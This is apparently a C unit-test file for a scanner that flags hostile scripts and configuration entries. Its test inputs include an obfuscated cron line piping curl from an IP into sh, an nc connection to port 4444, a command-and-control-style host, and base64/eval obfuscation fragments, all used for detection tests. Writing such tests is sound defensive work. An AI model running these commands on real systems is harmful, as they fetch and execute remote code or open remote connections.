/* Obfuscated scripts of data/samples.list, references of scripts, limits. */
#include "util.h"
#include "list.h"
#include <stdlib.h>
#include <time.h>

static const char *const langs[] = { [LANG_SHELL] = "shell", [LANG_PYTHON] = "python", [LANG_PERL] = "perl", [LANG_JS] = "js",
	[LANG_RUBY] = "ruby", [LANG_PHP] = "php" };

/* The text's signs for newline, NUL and byte order mark, then its form. */
static struct slice sample_text(struct arena *a, struct slice v, struct slice form)
{
	bool wide = form.n > 0, big = slice_eqs(form, "utf-16-be");
	uint8_t *out = arena_alloc(a, 2 * v.n + 2);
	size_t n = 0;
	for (size_t i = 0; i < v.n;) {
		uint32_t cp = 0;
		unsigned len = text_utf8_next(slice_from(v, i), &cp);
		assert_true(len > 0);
		i += len;
		cp = cp == 0x23ce ? '\n' : cp == 0x2400 ? 0 : cp;
		if (wide) {
			cp = cp == 0x2423 ? 0xfeff : cp;
			out[n++] = (uint8_t)(big ? cp >> 8 : cp);
			out[n++] = (uint8_t)(big ? cp : cp >> 8);
		} else if (cp == 0x2423) {
			memcpy(out + n, "\xef\xbb\xbf", 3);
			n += 3;
		} else {
			out[n++] = (uint8_t)cp;
		}
	}
	return slice_of(out, n);
}

static bool sample_holds(struct arena *a, const struct list_row *row)
{
	struct slice sign = list_field_get(row, "sign"), lang = list_field_get(row, "lang");
	bool no = slice_has_prefix(sign, SL("!"));
	enum script_lang l = LANG_NONE;
	for (size_t i = 0; i < ARRAY_LEN(langs); i++)
		if (langs[i] && slice_eqs(lang, langs[i]))
			l = (enum script_lang)i;
	assert_true(l != LANG_NONE);
	AUTO_SEEN s = judge_text("srv/run", sample_text(a, list_field_get(row, "text"), list_field_get(row, "form")), FILE_SCRIPT, l);
	int index = threat_sign_index(slice_from(sign, no));
	assert_true(index >= 0);
	if (no)
		return !sign_set_has(&s.signs, index);
	bool ok = sign_set_has(&s.signs, index) && s.skipped.n == 0;
	if (list_field_get(row, "decoded").n)
		ok &= sign_set_has(&s.decoded, index);
	return ok && s.script && s.undecodable == (list_field_get(row, "opaque").n > 0);
}

static void samples(void **state)
{
	(void)state;
	AUTO_ARENA a = ARENA(16 * MIB);
	struct list l = { 0 };
	struct err e;
	unsigned bad = 0;
	FILE *f = fopen(TEST_DATA "/samples.list", "rb");
	assert_non_null(f);
	uint8_t *p = arena_alloc(&a, MIB);
	size_t n = fread(p, 1, MIB, f);
	fclose(f);
	assert_int_equal(list_parse(&a, SL("samples.list"), slice_of(p, n), &l, &e), OK);
	assert_true(l.n >= 80);
	for (size_t i = 0; i < l.n; i++)
		if (!sample_holds(&a, &l.items[i])) {
			print_error("%.*s:%u: %.*s\n", SLICE_ARG(l.items[i].file), l.items[i].line, SLICE_ARG(l.items[i].id));
			bad++;
		}
	assert_int_equal(bad, 0);
}

static void references(void **state)
{
	(void)state;
	AUTO_SEEN s = judge_text("entrypoint.sh", SL("#!/bin/sh\nset -e\n. /etc/default/app\nsource ./lib.sh\nexec /usr/bin/app --x\nsudo -u www /opt/w\n"
		"echo x > /etc/cron.d/y\nif true; then run-it; fi\nsh /srv/a.sh\nA=/opt; $A/tool\n"), FILE_SCRIPT, LANG_SHELL);
	const char *refs = buf_cstr(&s.refs);
	static const char *const want[] = { "s:/etc/default/app\n", "s:./lib.sh\n", "x:/usr/bin/app\n", "x:/opt/w\n", "w:/etc/cron.d/y\n", "x:run-it\n",
		"x:/srv/a.sh\n", "x:/opt/tool\n" };
	for (size_t i = 0; i < ARRAY_LEN(want); i++)
		if (!strstr(refs, want[i]))
			fail_msg("%s not in\n%s", want[i], refs);
	AUTO_SEEN py = judge_text("a.py", SL("import os, sys\nfrom a.b import c\nos.system(\"/opt/x -y\")\n"), FILE_SCRIPT, LANG_PYTHON);
	assert_non_null(strstr(buf_cstr(&py.refs), "m:a.b\n"));
	assert_non_null(strstr(buf_cstr(&py.refs), "x:/opt/x\n"));
	AUTO_SEEN js = judge_text("a.js", SL("const x = require('./lib/y');\nimport z from \"z\";\n"), FILE_SCRIPT, LANG_JS);
	assert_string_equal(buf_cstr(&js.refs), "s:./lib/y\ns:z\n");
}

static void commands_in_configuration(void **state)
{
	(void)state;
	AUTO_SEEN cron = judge_text("etc/cron.d/x", SL("# c\nPATH=/bin\n*/5 * * * * root /opt/job --a\n@reboot root /opt/boot\n"), FILE_CONFIG, LANG_NONE);
	assert_string_equal(buf_cstr(&cron.refs), "x:/opt/job\nx:/opt/boot\n");
	AUTO_SEEN unit = judge_text("etc/systemd/system/x.service", SL("[Service]\nExecStart=-/opt/d --no\nExecStop=/bin/kill $MAINPID\n"), FILE_CONFIG,
				    LANG_NONE);
	assert_string_equal(buf_cstr(&unit.refs), "x:/opt/d\nx:/bin/kill\n");
	AUTO_SEEN pth = judge_text("usr/lib/python3/x.pth", SL("import evil_start\n"), FILE_TEXT, LANG_NONE);
	assert_string_equal(buf_cstr(&pth.refs), "m:evil_start\n");
	AUTO_SEEN npm = judge_text("app/package.json", SL("{\"scripts\":{\"postinstall\":\"node setup.js\"}}"), FILE_CONFIG, LANG_NONE);
	assert_non_null(strstr(buf_cstr(&npm.refs), "x:setup.js\n"));
	AUTO_SEEN bad = judge_text("etc/cron.d/x", SL("* * * * * root cu''rl http://203.0.113.77/a|s''h\n"), FILE_CONFIG, LANG_NONE);
	assert_true(seen_sign(&bad, "dl.pipe-shell-ip"));
}

static void tokens(void **state)
{
	(void)state;
	AUTO_SEEN s = judge_text("run.sh", SL("curl HTTPS://Evil.Example-Host.xyz/a/b#c\nnc 203.0.113.9 4444\nping c2.badhost.top.\nX=http://10.0.0.1/x\n"
		"a=1.2.3.4.5\nimport foo.com_x\nwget http://u:p@203.0.113.8:80/x\n"), FILE_SCRIPT, LANG_SHELL);
	static const char *const want[] = { "1 evil.example-host.xyz\n", "3 https://evil.example-host.xyz/a/b\n", "2 203.0.113.9\n", "1 c2.badhost.top\n",
		"2 203.0.113.8:80\n" };
	for (size_t i = 0; i < ARRAY_LEN(want); i++)
		if (!strstr(buf_cstr(&s.tokens), want[i]))
			fail_msg("%s not in\n%s", want[i], buf_cstr(&s.tokens));
	assert_null(strstr(buf_cstr(&s.tokens), "10.0.0.1"));
	assert_null(strstr(buf_cstr(&s.tokens), "1.2.3.4"));
}

static void many_tokens(void **state)
{
	(void)state;
	AUTO_BUF b = BUF(MIB);
	for (unsigned i = 0; i < 2500; i++)
		buf_printf(&b, "http://h%u.badhost.top\n", i);
	AUTO_SEEN s = judge_text("run.sh", buf_slice(&b), FILE_SCRIPT, LANG_SHELL);
	assert_non_null(strstr(buf_cstr(&s.skipped), "limit: tokens\n"));
}

/* Texts made to blow up expansion: all end soon. */
static void hostile(void **state)
{
	(void)state;
	static const char *const pieces[] = { "$(", "`", "${a", "eval ", "<<E\n", "a=$a$a;", "{a,", "\"$(", "sh -c '", "echo $a|base64 -d|", "$'\\", "((",
		"'+'", "x=x+'a';", "chr(1)+", "exec(", "cat <<A <<B\n" };
	for (size_t i = 0; i < ARRAY_LEN(pieces); i++) {
		AUTO_BUF b = BUF(MIB);
		buf_puts(&b, "a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\neval(atob(\n");
		while (b.n < 200 * KIB)
			buf_puts(&b, pieces[i]);
		if (getenv("VERBOSE"))
			print_message("%ld %s\n", (long)clock(), pieces[i]);
		AUTO_SEEN sh = judge_text("run.sh", buf_slice(&b), FILE_SCRIPT, LANG_SHELL);
		AUTO_SEEN py = judge_text("run.py", buf_slice(&b), FILE_SCRIPT, LANG_PYTHON);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(samples), cmocka_unit_test(references), cmocka_unit_test(commands_in_configuration),
		cmocka_unit_test(tokens), cmocka_unit_test(many_tokens), cmocka_unit_test(hostile) };
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
